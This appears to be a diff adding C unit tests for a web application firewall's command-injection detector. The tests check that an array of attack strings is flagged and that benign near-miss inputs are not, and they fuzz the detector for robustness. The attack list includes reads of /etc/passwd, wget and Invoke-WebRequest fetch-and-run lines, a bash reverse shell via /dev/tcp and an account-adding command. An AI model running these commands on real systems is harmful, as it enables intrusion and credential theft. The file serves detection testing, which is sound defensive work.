@@ -1,0 +1,125 @@
+/* tests/waf/test_waf_rce.c — unit tests for waf_detect_rce (OS command injection). */
+#include "detect.h"
+
+#include <CUnit/Basic.h>
+#include <stdlib.h>
+#include <string.h>
+
+struct sample {
+    enum waf_place place;
+    const char *s;
+};
+
+/* Written for these tests: attacks of the class, in its usual encodings. */
+static const struct sample attacks[] = {
+    {WAF_PLACE_ARG, "; cat /etc/passwd"},
+    {WAF_PLACE_ARG, "a;id|"},
+    {WAF_PLACE_ARG, "| ls -la /tmp"},
+    {WAF_PLACE_ARG, "&& whoami"},
+    {WAF_PLACE_ARG, "`id`"},
+    {WAF_PLACE_ARG, "$(wget http://x/y.sh)"},
+    {WAF_PLACE_ARG, "\ncat /etc/hosts"},
+    {WAF_PLACE_ARG, "ipconfig /all"},
+    {WAF_PLACE_ARG, "; net user hacker /add"},
+    {WAF_PLACE_ARG, "cat${IFS}/etc/passwd"},
+    {WAF_PLACE_ARG, "{cat,/etc/passwd}"},
+    {WAF_PLACE_ARG, "/bin/ca? /et?/pass??"},
+    {WAF_PLACE_ARG, "c'a't /etc/issue"},
+    {WAF_PLACE_ARG, "() { :;}; echo vulnerable"},
+    {WAF_PLACE_ARG, "powershell -enc AAAA"},
+    {WAF_PLACE_ARG, "Invoke-WebRequest http://x/a.ps1"},
+    {WAF_PLACE_ARG, "cmd.exe /c dir"},
+    {WAF_PLACE_ARG, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"},
+    {WAF_PLACE_ARG, "| sleep 5"},
+    {WAF_PLACE_ARG, "if defined x echo y"},
+    {WAF_PLACE_ARG, "; rmt --version"},
+    {WAF_PLACE_ARG, "~+"},
+};
+
+/* Near misses: ordinary data that shares characters with the attacks. */
+static const struct sample benign[] = {
+    {WAF_PLACE_ARG, "one; two"},
+    {WAF_PLACE_ARG, "a|b"},
+    {WAF_PLACE_ARG, "Tom & Jerry"},
+    {WAF_PLACE_ARG, "Name | Type | Size"},
+    {WAF_PLACE_ARG, "time express"},
+    {WAF_PLACE_ARG, "pwd"},
+    {WAF_PLACE_ARG, "id"},
+    {WAF_PLACE_ARG, "python tutorial for beginners"},
+    {WAF_PLACE_ARG, "I love java; python is fine too"},
+    {WAF_PLACE_ARG, "sort by date"},
+    {WAF_PLACE_ARG, "-created_at"},
+    {WAF_PLACE_ARG, "select a plan"},
+    {WAF_PLACE_ARG, "drop us a line"},
+    {WAF_PLACE_ARG, "R&D; sales & marketing"},
+    {WAF_PLACE_ARG, "{\"a\":1,\"b\":[1,2]}"},
+    {WAF_PLACE_ARG, "query { user(id: 1) { name } }"},
+    {WAF_PLACE_ARG, "Find the cat; then sleep well"},
+    {WAF_PLACE_ARG, "1<2 and 3>2"},
+    {WAF_PLACE_HEADER, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36"},
+};
+
+static void test_attacks(void)
+{
+    for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+        struct waf_hit h;
+        memset(&h, 0, sizeof h);
+        int r = waf_detect_rce(attacks[i].s, strlen(attacks[i].s), attacks[i].place, &h);
+        if (!r) fprintf(stderr, "missed: %s\n", attacks[i].s);
+        CU_ASSERT_EQUAL(r, 1);
+        if (r) {
+            CU_ASSERT(h.rule != 0);
+            CU_ASSERT(h.score >= 3);
+            CU_ASSERT(h.reason != NULL);
+            CU_ASSERT(h.at + h.len <= strlen(attacks[i].s));
+        }
+    }
+}
+
+static void test_benign(void)
+{
+    for (size_t i = 0; i < sizeof benign / sizeof benign[0]; i++) {
+        struct waf_hit h;
+        int r = waf_detect_rce(benign[i].s, strlen(benign[i].s), benign[i].place, &h);
+        if (r) fprintf(stderr, "false positive: %s (%s)\n", benign[i].s, h.reason);
+        CU_ASSERT_EQUAL(r, 0);
+    }
+}
+
+/* Arbitrary bytes: NUL, invalid UTF-8, truncated escapes, a large value; nothing
+ * may crash or read out of bounds (run under ASan), and NULL hit is accepted. */
+static void test_robustness(void)
+{
+    static const char *const odd[] = {"",   "%",  "%u12", "%c0", "\xc0", "${",
+                                      "{{", "<%", "$",    "(",   "'",    "\\",
+                                      "0x", "..", "/",    "|",   "`",    "[$"};
+    for (size_t i = 0; i < sizeof odd / sizeof odd[0]; i++)
+        for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
+            (void)waf_detect_rce(odd[i], strlen(odd[i]), (enum waf_place)p, NULL);
+    size_t n = 1 << 20;
+    char *big = malloc(n);
+    CU_ASSERT_FATAL(big != NULL);
+    for (size_t i = 0; i < n; i++)
+        big[i] = (char)("a.%/\\$({<;|&'\"\0\xc0\xae"[i % 17]);
+    for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
+        (void)waf_detect_rce(big, n, (enum waf_place)p, NULL);
+    for (size_t i = 0; i < n; i++)
+        big[i] = (char)(i * 7919u >> 3);
+    for (int p = WAF_PLACE_PATH; p <= WAF_PLACE_BODY; p++)
+        (void)waf_detect_rce(big, n, (enum waf_place)p, NULL);
+    free(big);
+}
+
+int main(void)
+{
+    if (CU_initialize_registry() != CUE_SUCCESS) return 2;
+    CU_pSuite s = CU_add_suite("waf_rce", NULL, NULL);
+    CU_add_test(s, "attacks", test_attacks);
+    CU_add_test(s, "benign near misses", test_benign);
+    CU_add_test(s, "robustness", test_robustness);
+    CU_basic_set_mode(CU_BRM_VERBOSE);
+    CU_basic_run_tests();
+    unsigned failures = CU_get_number_of_failures();
+    CU_cleanup_registry();
+    return failures ? 1 : 0;
+}
